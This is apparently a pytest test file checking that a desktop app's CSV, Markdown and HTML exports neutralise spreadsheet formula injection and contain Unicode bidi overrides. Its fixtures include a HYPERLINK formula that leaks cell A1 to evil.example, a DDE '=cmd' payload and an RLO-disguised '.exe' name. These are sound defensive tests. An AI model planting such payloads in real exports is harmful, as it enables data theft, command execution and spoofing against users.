"""Content written out as the issue asked: no spreadsheet formulas, no runaway bidi text.

Issue #18, items 6 and 8: every CSV the app writes (the three table views, and
rows copied from a table as tab-separated text) neutralises cells a
spreadsheet would run as formulas, as OWASP advises; text that could reorder
its neighbours is isolated in CSV, Markdown and HTML.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtGui import QGuiApplication

from outsource_desktop.cli import main
from outsource_desktop.content.loader import load_catalog
from outsource_desktop.content.models import Catalog
from outsource_desktop.documents.bidi import FIRST_STRONG_ISOLATE, POP_DIRECTIONAL_ISOLATE
from outsource_desktop.gui.main_window import MainWindow
from tests import content_factory

FORMULA_STARTS = "=+-@\t\r"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
OVERRIDE = "\u202egnp.exe"
OVERRIDES_AND_EMBEDDINGS = "\u202a\u202b\u202c\u202d\u202e"
ISOLATE_OPENERS = "\u2066\u2067\u2068"


def formula_content(data: dict[str, Any]) -> dict[str, Any]:
    """Formulas, and an override, in every kind of text the CSV views show."""
    data["sections"][0]["title"] = "=1+2"
    aspect = data["aspects"][0]
    aspect["label"] = HYPERLINK
    aspect["claims"]["bpo"] = content_factory.cell("@SUM(A1)", "@SUM(A1) in full")
    aspect["claims"]["kpo"] = content_factory.cell("+1+1", "+1+1 in full", "b")
    # A long text may start with a tab.
    aspect["claims"]["lpo"] = content_factory.cell("=1+1", "\t=1+1", "b")
    data["aspects"][1]["label"] = f"-2+3 {OVERRIDE}"
    data["models"][0]["short_name"] = "=BPO"
    service = data["service_types"][0]
    service.update(name="=cmd|' /C calc'!A0", examples=["@SUM(1)"], sectors=[" -1", OVERRIDE])
    role = data["roles"][0]
    role.update(title="+HYPERLINK(1)", skills=["=1", "Analysis"])
    data["companies"][0]["name"] = "@Acme"
    data["glossary"][0].update(term="=SLA", stands_for=OVERRIDE)
    return data


@pytest.fixture
def formula_file(small_data: dict[str, Any], write_json: Any) -> Path:
    path: Path = write_json(formula_content(small_data))
    return path


def first_meaningful(cell: str) -> str:
    """The first character a spreadsheet might start a formula with."""
    return next(
        (char for char in cell if not char.isspace() and unicodedata.category(char) != "Cf"), ""
    )


def assert_no_formula(cells: Iterable[str]) -> list[str]:
    seen = list(cells)
    for cell in seen:
        if cell.startswith("'"):
            continue
        assert not cell or cell[0] not in FORMULA_STARTS, cell
        first = first_meaningful(cell)
        assert not first or first not in FORMULA_STARTS, cell
    return seen


def assert_bidi_contained(text: str, boundaries: str) -> None:
    """Every override sits in an isolate, and no isolate is open at a boundary
    (a cell's or line's end), so nothing can reorder what comes after it."""
    depth = 0
    for char in text:
        if char in ISOLATE_OPENERS:
            depth += 1
        elif char == POP_DIRECTIONAL_ISOLATE and depth:
            depth -= 1
        elif char in OVERRIDES_AND_EMBEDDINGS:
            assert depth > 0, f"an override outside any isolate in {text!r}"
        elif char in boundaries:
            assert depth == 0, f"an isolate left open across {char!r} in {text!r}"
    assert depth == 0


def exported(arguments: list[str], path: Path) -> str:
    assert main([*arguments, "--output", str(path)]) == 0
    return path.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("view", ["comparison", "services", "careers", "glossary"])
def test_no_cell_of_an_exported_csv_is_a_formula(
    formula_file: Path, tmp_path: Path, view: str, capsys: pytest.CaptureFixture[str]
) -> None:
    text = exported(
        ["--content", str(formula_file), "export", "--view", view, "--details"],
        tmp_path / "x.csv",
    )
    rows = list(csv.reader(io.StringIO(text)))
    cells = assert_no_formula(cell for row in rows for cell in row)
    assert any(cell.startswith("'") for cell in cells)  # there was something to neutralise
    for cell in cells:
        assert_bidi_contained(cell, boundaries="")
    capsys.readouterr()


def test_the_neutralised_text_keeps_every_character(
    formula_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = exported(["--content", str(formula_file), "export"], tmp_path / "x.csv")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][2] == "'=BPO"
    assert rows[1][:3] == ["'=1+2", f"'{HYPERLINK}", "≠ @SUM(A1) [1]"]
    capsys.readouterr()


def test_rows_copied_from_a_table_are_no_formulas_either(
    show_window: Any, formula_file: Path
) -> None:
    window: MainWindow = show_window(load_catalog(formula_file))
    for tab in (
        window.comparison_tab,
        window.services_tab,
        window.careers_tab,
        window.glossary_tab,
    ):
        window.tabs.setCurrentWidget(tab)
        tab.master_detail.table.selectAll()
        window.copy_current()
        copied = QGuiApplication.clipboard().text()
        cells = assert_no_formula(cell for line in copied.splitlines() for cell in line.split("\t"))
        assert any(cell.startswith("'") for cell in cells)


@pytest.mark.parametrize(("extension", "boundaries"), [("md", "|\n"), ("html", "<>")])
def test_an_override_cannot_reorder_text_after_it(
    formula_file: Path,
    tmp_path: Path,
    extension: str,
    boundaries: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    for view in ("comparison", "services", "glossary"):
        text = exported(
            ["--content", str(formula_file), "export", "--view", view],
            tmp_path / f"x.{extension}",
        )
        assert OVERRIDE[:4] in text  # Markdown escapes the dot that follows
        assert FIRST_STRONG_ISOLATE in text
        assert_bidi_contained(text, boundaries)
    capsys.readouterr()


def test_a_stray_closing_isolate_cannot_end_the_isolate_early(
    small_data: dict[str, Any], write_json: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    small_data["aspects"][0]["label"] = "\u2069\u202eevil\u2067"
    path = write_json(small_data)
    text = exported(["--content", str(path), "export"], tmp_path / "x.md")
    assert_bidi_contained(text, "|\n")
    capsys.readouterr()


def test_plain_text_is_left_as_it_is(catalog: Catalog, tmp_path: Path) -> None:
    # The bundled content has no bidirectional text: nothing is added to it.
    assert main(["export", "--output", str(tmp_path / "x.md")]) == 0
    text = (tmp_path / "x.md").read_text(encoding="utf-8")
    assert FIRST_STRONG_ISOLATE not in text
    assert catalog.aspects[0].label.replace("-", "\\-") in text
